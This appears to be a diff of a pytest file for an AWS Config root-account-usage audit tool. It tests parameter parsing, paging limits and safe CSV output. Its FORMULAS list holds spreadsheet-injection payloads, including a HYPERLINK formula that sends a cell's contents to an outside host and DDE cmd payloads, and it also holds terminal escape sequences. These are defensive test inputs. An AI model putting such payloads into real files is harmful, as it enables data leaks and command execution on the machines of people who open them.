@@ -9,17 +9,28 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+import sys
+import unicodedata
 from datetime import timedelta
 from html.parser import HTMLParser
+from unittest import mock
 
 import pytest
 
 from root_account_usage.cli.main import main
 from root_account_usage.core.cloudtrail_evidence import RootActivity, apply_cloudtrail
+from root_account_usage.core.events import parse_periodic_event
+from root_account_usage.core.exceptions import InvalidEventError, InvalidParameterError
+from root_account_usage.core.parameters import parse_rule_parameters
 from root_account_usage.core.report import CredentialUse, RootCredentials
 from root_account_usage.core.verdict import decide
 from root_account_usage.history.collect import collect_evidence
+from root_account_usage.history.config_reader import HistoryUnavailableError
 from root_account_usage.history.evidence import render_csv, render_html, render_json, render_text
+from root_account_usage.history.organization import read_accounts
+from root_account_usage.history.session import AuditorSession
+from root_account_usage.simulation.events import periodic_event
 from tests.functional.history.records import (
     ACCOUNT,
     NOW,
@@ -156,6 +167,57 @@ def test_each_matched_rule_is_shown_separately_with_its_own_verdict():
     assert f"{ORG_RULE}, threshold 7 days" in text
 
 
+# What the rule makes of each: (InputParameters, threshold shown, why invalid).
+PARAMETERS = [
+    ('{"ThresholdDays": "30"}', 30, None),
+    ('{"ThresholdDays": 30}', 30, None),
+    ("{}", 7, None),
+    (None, 7, None),  # no InputParameters at all
+    ('{"ThresholdDays": null}', None, "rule parameter ThresholdDays is null"),
+    ('{"ThresholdDays": "7", "ThresholdDays": "30"}', None, "given more than once"),
+    ('{"ThresholdDay": "30"}', None, "unknown rule parameter(s) ThresholdDay"),
+    ('{"ThresholdDays": 7.0}', None, "ThresholdDays must be a whole number"),
+    ('{"ThresholdDays": "0"}', None, "ThresholdDays must be from 1 to 3650"),
+    ("not json", None, "InputParameters is not valid JSON"),
+    ("[7]", None, "InputParameters is not a JSON object"),
+    ('{"ThresholdDays": ' + "9" * 5000 + "}", None, "over the 4096 limit"),
+]
+
+
+@pytest.mark.parametrize(("raw", "threshold", "invalid"), PARAMETERS)
+def test_the_threshold_shown_is_what_the_rule_makes_of_its_parameters(raw, threshold, invalid):
+    records = ConfigRecords(
+        {RULE: raw}, [(day(1), {RULE: "COMPLIANT"})], {RULE: ("COMPLIANT", NO_USE, day(1))}
+    )
+    report = collect(records)
+    [account] = json.loads(render_json(report))["accounts"]
+    assert account["threshold_days"] == threshold
+    [current] = [row for row in csv_rows(report) if row["kind"] == "current"]
+    text = render_text(report)
+    if invalid is None:
+        assert account["parameters_invalid"] is None
+        assert current["threshold_days"] == str(threshold)
+        assert f"{RULE}, threshold {threshold} days" in text
+    else:
+        assert invalid in account["parameters_invalid"]
+        assert current["threshold_days"].startswith("invalid: ")
+        assert f"{RULE}, threshold invalid: " in text
+        assert "invalid: " in render_html(report)
+    # The rule itself, handed the same text as its event's ruleParameters.
+    event = periodic_event(ACCOUNT, NOW)
+    if raw is None:
+        del event["ruleParameters"]
+    else:
+        event["ruleParameters"] = raw
+    try:
+        periodic = parse_periodic_event(event)
+        ruled = parse_rule_parameters(periodic.rule_parameters, periodic.repeated_parameters)
+    except (InvalidEventError, InvalidParameterError):
+        assert threshold is None
+    else:
+        assert ruled.threshold_days == threshold
+
+
 # 2. Every state Config records --------------------------------------------------------
 
 
@@ -234,20 +296,25 @@ def test_a_state_config_may_add_one_day_is_shown_as_written():
 
 # 3. Files that are safe to open ------------------------------------------------------
 
+# (what Config returned, the cell a spreadsheet gets)
 FORMULAS = [
-    '=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+2",
-    "\r=1+2",
-    "\n=1+2",
-    " =1+2",
+    ('=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")', None),
+    ("+1+cmd|' /C calc'!A0", None),
+    ("-2+3", None),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", None),
+    (" =1+2", None),
+    ("\u00a0=1+2", None),  # a no-break space before it
+    ("\u3000=1+2", None),  # an ideographic space
+    # Control characters are written as escapes (as in text): no formula is left.
+    ("\t=1+2", "\\x09=1+2"),
+    ("\r=1+2", "\\x0d=1+2"),
+    ("\n=1+2", "\\x0a=1+2"),
+    ("\ufeff=1+2", "\\ufeff=1+2"),  # a byte order mark
 ]
 
 
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_csv_cells_never_start_a_formula(formula):
+@pytest.mark.parametrize(("formula", "cell"), FORMULAS)
+def test_csv_cells_never_start_a_formula(formula, cell):
     records = ConfigRecords(
         {RULE: parameters()},
         [(day(1), {RULE: "NON_COMPLIANT"})],
@@ -255,9 +322,30 @@ def test_csv_cells_never_start_a_formula(formula):
     )
     rows = list(csv.reader(io.StringIO(render_csv(collect(records)))))
     cells = [cell for row in rows for cell in row]
-    assert "'" + formula in cells  # kept, and neutralised with OWASP's leading quote
-    for cell in cells:
-        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
+    # kept, and neutralised with OWASP's leading quote, or escaped
+    assert (cell or "'" + formula) in cells
+    for shown in cells:
+        assert not shown.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\n")), shown
+
+
+# Terminal escapes and other control characters: ESC (clear the screen, move the
+# cursor), VT, FF, NUL, DEL, a C1 control (CSI), NEL, and separators.
+CONTROLS = "\x1b[2J\x1b[1;1H\x0b\x0c\x00\x7f\x9b\x85\u2028\u2029\u202e"
+
+
+def test_csv_cells_hold_no_control_character_only_its_escape():
+    records = ConfigRecords(
+        {RULE: parameters()},
+        [(day(1), {RULE: "COMPLIANT"})],
+        {RULE: ("COMPLIANT", f"ok{CONTROLS}COMPLIANT", day(1))},
+    )
+    rows = list(csv.reader(io.StringIO(render_csv(collect(records)))))
+    cells = "".join(cell for row in rows for cell in row)
+    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp") for ch in cells)
+    [current] = [row for row in rows if row[0] == "current"]
+    assert current[6] == (
+        "ok\\x1b[2J\\x1b[1;1H\\x0b\\x0c\\x00\\x7f\\x9b\\x85\\u2028\\u2029\\u202eCOMPLIANT"
+    )
 
 
 def test_a_rule_name_asked_for_that_looks_like_a_formula_is_neutralised_too():
@@ -360,6 +448,35 @@ def test_a_non_compliant_verdict_cloudtrail_decided_shows_the_use_in_every_forma
         assert "2026-11-09T13:00:00Z" in rendered
 
 
+class NotRecordingCompliance(ConfigRecords):
+    """A recorder that records other types only: AWS Config keeps no compliance history."""
+
+    def describe_configuration_recorders(self, **_):
+        self._called("DescribeConfigurationRecorders")
+        group = {"allSupported": False, "resourceTypes": ["AWS::S3::Bucket"]}
+        return {"ConfigurationRecorders": [{"name": "default", "recordingGroup": group}]}
+
+
+def test_a_root_use_named_inside_the_period_makes_the_account_ever_non_compliant():
+    # No history; the latest evaluation was stamped a minute after the period ended (by
+    # AWS's clock, ahead of the auditor's) and names a use ten minutes before it ended.
+    use = UNTIL - timedelta(minutes=10)
+    annotation = (
+        f"Root console password was used at {use:%Y-%m-%dT%H:%M:%SZ}, within the 7-day "
+        "threshold; report generated 2026-11-10T23:55:00Z."
+    )
+    records = NotRecordingCompliance(
+        {RULE: parameters()},
+        [],
+        {RULE: ("NON_COMPLIANT", annotation, UNTIL + timedelta(minutes=1))},
+    )
+    report = collect(records)
+    evidence = json.loads(render_json(report))
+    assert evidence["summary"]["ever_non_compliant"] == [ACCOUNT]
+    assert evidence["summary"]["without_history"] == [ACCOUNT]
+    assert f"ever non-compliant in the period: 1 ({ACCOUNT})" in render_text(report)
+
+
 # 5. Bounded work ------------------------------------------------------------------------
 
 
@@ -407,3 +524,131 @@ def test_cli_period_wholly_before_what_config_holds_is_one_usage_line(until, cap
     err = capsys.readouterr().err
     assert "--since/--until: the period lies entirely outside" in err
     assert err.count("\n") == 1
+
+
+class Cycling(ConfigRecords):
+    """AWS Config answering one operation's pages with tokens that never end: a cycle
+    (A, B, A, ...) or a new token every time."""
+
+    def __init__(self, operation: str, cycle: bool, **kwargs):
+        super().__init__({RULE: parameters()}, [(day(1), {RULE: "COMPLIANT"})], {}, **kwargs)
+        self.operation, self.cycle, self.tokens = operation, cycle, 0
+
+    def _page(self, page, request, token_key):
+        self.tokens += 1
+        if self.cycle:
+            page[token_key] = "B" if request.get(token_key) in (None, "A") else "A"
+        else:
+            page[token_key] = f"t{self.tokens}"
+        return page
+
+    def describe_config_rules(self, **request):
+        page = super().describe_config_rules(**request)
+        if self.operation != "describe_config_rules":
+            return page
+        return self._page(page, request, "NextToken")
+
+    def get_resource_config_history(self, **request):
+        page = super().get_resource_config_history(**request)
+        if self.operation != "get_resource_config_history" or request.get("limit") == 1:
+            return page
+        return self._page(page, request, "nextToken")
+
+    def get_compliance_details_by_config_rule(self, **request):
+        page = super().get_compliance_details_by_config_rule(**request)
+        if self.operation != "get_compliance_details_by_config_rule":
+            return page
+        return self._page(page, request, "NextToken")
+
+
+def test_rules_paged_in_a_cycle_make_config_unreadable_at_once():
+    records = Cycling("describe_config_rules", cycle=True)
+    with pytest.raises(HistoryUnavailableError, match="describe_config_rules: paging stopped"):
+        collect(records)
+    assert records.calls.count("DescribeConfigRules") == 3  # A, B, then A again: stop
+
+
+@pytest.mark.parametrize(
+    ("operation", "cycle", "most_calls"),
+    [
+        ("get_resource_config_history", True, 10),
+        ("get_compliance_details_by_config_rule", True, 10),
+        ("get_compliance_details_by_config_rule", False, 110),  # MAX_PAGES: 100
+    ],
+)
+def test_an_account_paged_without_end_is_unreadable_with_the_reason(operation, cycle, most_calls):
+    records = Cycling(operation, cycle=cycle, max_calls=5_000)
+    report = collect(records)
+    [unreadable] = report.unreadable
+    assert unreadable.error.startswith(f"{operation}: paging stopped: ")
+    assert len(records.calls) <= most_calls
+    assert f"Unreadable: {ACCOUNT}" in render_text(report)
+
+
+def test_one_member_account_paged_without_end_never_holds_up_the_others():
+    endless = Cycling(
+        "get_resource_config_history", cycle=False, account_id="222222222222", max_calls=3_000
+    )
+    fine = ConfigRecords(
+        {RULE: parameters()},
+        [(day(1), {RULE: "COMPLIANT"})],
+        {RULE: ("COMPLIANT", NO_USE, day(1))},
+    )
+
+    class Opener:
+        description = "test"
+
+        def open(self, account_id, region):
+            return (endless if account_id == "222222222222" else fine).client()
+
+    outcomes = read_accounts(
+        [("222222222222", REGION), (ACCOUNT, REGION)],
+        Opener(),
+        rule_name=RULE,
+        since=SINCE,
+        until=UNTIL,
+        sleep=lambda seconds: None,
+    )
+    assert "get_resource_config_history: paging stopped: more pages after 2000" in (
+        outcomes[0].unreadable.error
+    )
+    assert outcomes[1].read is not None
+
+
+# A lone surrogate: half a character, as a JSON escape in what AWS returned can hold.
+HALF = "Root user has no recorded use \ud83d; threshold 7 days"
+
+
+@pytest.mark.parametrize("fmt", sorted(RENDERERS))
+def test_a_lone_surrogate_from_aws_is_written_as_an_escape_in_every_format(fmt, tmp_path, capsys):
+    records = ConfigRecords(
+        {RULE: parameters()}, [(day(1), {RULE: "COMPLIANT"})], {RULE: ("COMPLIANT", HALF, day(1))}
+    )
+    target = tmp_path / f"evidence.{fmt}"
+    target.write_text("earlier evidence")
+    session = AuditorSession(records.client(), ACCOUNT, REGION)
+    with mock.patch("root_account_usage.cli.history.open_session", return_value=session):
+        code = main(["history", "--region", REGION, "--format", fmt, "--output", str(target)])
+    assert code == 0, capsys.readouterr().err
+    written = target.read_text(encoding="utf-8")
+    assert "no recorded use \\ud83d; threshold" in written
+
+
+class Terminal(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+@pytest.mark.parametrize("tqdm", [True, False])
+def test_years_of_one_accounts_history_show_one_bar_not_a_line_a_week(tqdm, monkeypatch, capsys):
+    if tqdm:
+        pytest.importorskip("tqdm")
+    else:
+        monkeypatch.setitem(sys.modules, "tqdm", None)  # an install without the extra
+    terminal = Terminal()
+    monkeypatch.setattr(sys, "stderr", terminal)
+    assert main(["history", "--demo", "--since", "2020-01-01", "--format", "json"]) == 0
+    shown = terminal.getvalue()
+    # Every seven-day read since 2020 (some 360 of them), counted to the end.
+    assert re.search(r"\b(3\d\d)/\1\b", shown), shown[-200:]
+    assert shown.count("\n") <= (1 if tqdm else 21)
